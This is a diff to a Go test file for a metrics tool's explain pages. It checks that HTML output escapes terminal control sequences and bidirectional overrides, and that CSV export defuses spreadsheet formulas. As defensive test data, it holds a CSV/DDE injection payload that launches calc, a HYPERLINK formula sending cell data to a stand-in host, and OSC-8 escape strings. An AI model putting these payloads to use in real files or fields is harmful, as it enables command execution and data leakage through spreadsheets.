@@ -148,6 +148,12 @@ func TestExplainPage(t *testing.T) {
 			t.Errorf("page shows %q", hidden)
 		}
 	}
+	// as explain prints them: no control character or bidirectional
+	// override acts on the page, nor a line break splits a cell
+	if strings.ContainsAny(b.String(), "\x1b\u202e") || !strings.Contains(b.String(), `Fix login`) ||
+		!strings.Contains(b.String(), `\x1b[2J\u202e</td>`) || !strings.Contains(b.String(), `<td>Add\nline</td>`) {
+		t.Error("the page's rows are not escaped as explain escapes them")
+	}
 
 	rep := render.Report{Month: *x.Month(), Explain: func() *compute.Explained { return x }}
 	var md bytes.Buffer
@@ -162,6 +168,33 @@ func TestExplainPage(t *testing.T) {
 	r.Markdown(&md, rep)
 	if strings.Contains(md.String(), "explain/") {
 		t.Error("a report without rows links to them")
+	}
+}
+
+// Text from outside in a figure's key (a SARIF tool's name), its
+// summary, its section or its rows acts on nothing on the page, and each
+// figure's link from the index reaches its anchor.
+func TestExplainPageEscapesKeys(t *testing.T) {
+	x := hostileExplained(t, "\x1b]8;;https://x.example\x07\u202e")
+	var b bytes.Buffer
+	p := render.Page{Title: "rows", Root: "../", Site: true, Assets: render.Assets{CSSHref: "assets/style.css", EchartsSrc: "assets/echarts.min.js", ChartsJSSrc: "assets/charts.js"}}
+	if err := newRenderer(t).ExplainHTML(&b, x, p, false); err != nil {
+		t.Fatal(err)
+	}
+	page := b.String()
+	for _, r := range page {
+		if r < 0x20 && r != '\n' || r == 0x7f || r == '\u202e' {
+			t.Fatalf("the page holds %q", r)
+		}
+	}
+	key := "scans.by_tool.semgrep\x1b]8;;https://x.example\x07\u202e.count"
+	anchor := `id="scans.by_tool.semgrep\x1b]8;;https://x.example\x07\u202e.count"`
+	if !strings.Contains(page, anchor) {
+		t.Errorf("no anchor %s", anchor)
+	}
+	href := render.ExplainHref("2026-03", key)
+	if want := "explain/2026-03.html#scans.by_tool.semgrep\\x1b]8;;https://x.example\\x07\\u202e.count"; href != want {
+		t.Errorf("href %q, want %q", href, want)
 	}
 }
 
@@ -424,5 +457,42 @@ func TestExplainCycleRows(t *testing.T) {
 	}
 	if strings.Contains(page.String(), "ada&lt;") || strings.Contains(text, "ada<") {
 		t.Error("the published page shows a pull's author")
+	}
+}
+
+// An explanation's CSV goes to spreadsheets: a cell that one would read
+// as a formula starts with an apostrophe; numbers are left alone, and
+// JSON keeps the text as it was.
+func TestExplainCSVStartsNoFormula(t *testing.T) {
+	at := time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
+	f := &fact.Facts{
+		Deployments: []fact.Deployment{{ID: "-2+3+cmd|' /C calc'!A0", Time: at, Status: fact.StatusSuccess, Production: true, Source: fact.SourceEvents, Baseline: true}},
+		Changes: []fact.Change{{SHA: "c1", DeploymentID: "-2+3+cmd|' /C calc'!A0", Subject: `=HYPERLINK("https://x.example/?"&A1)`,
+			Author: "@evil <e@example.com>", LeadTime: 90 * time.Minute, Counted: fact.CountedYes}},
+	}
+	_, x := compute.NewHistory(f, config.Default(), time.UTC).Explained(compute.YearMonth{Year: 2026, Month: time.March}.Period(time.UTC))
+	e, err := x.Of("lead_time.p50_hours")
+	if err != nil {
+		t.Fatal(err)
+	}
+	o := render.ExplainOptions{Authors: true, Loc: time.UTC}
+	var c bytes.Buffer
+	if err := render.ExplainCSV(&c, e, o); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&c).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"1", "1.5", "c1", `'-2+3+cmd|' /C calc'!A0`, "2026-03-02T10:00:00Z", "yes", "'@evil <e@example.com>", `'=HYPERLINK("https://x.example/?"&A1)`}
+	if len(recs) != 2 || !slices.Equal(recs[1], want) {
+		t.Errorf("csv rows %q, want %q", recs, want)
+	}
+	var j bytes.Buffer
+	if err := render.ExplainJSON(&j, e, o); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(j.String(), `"=HYPERLINK(\"https://x.example/?\"\u0026A1)"`) {
+		t.Errorf("json does not keep the subject as it was:\n%s", j.String())
 	}
 }
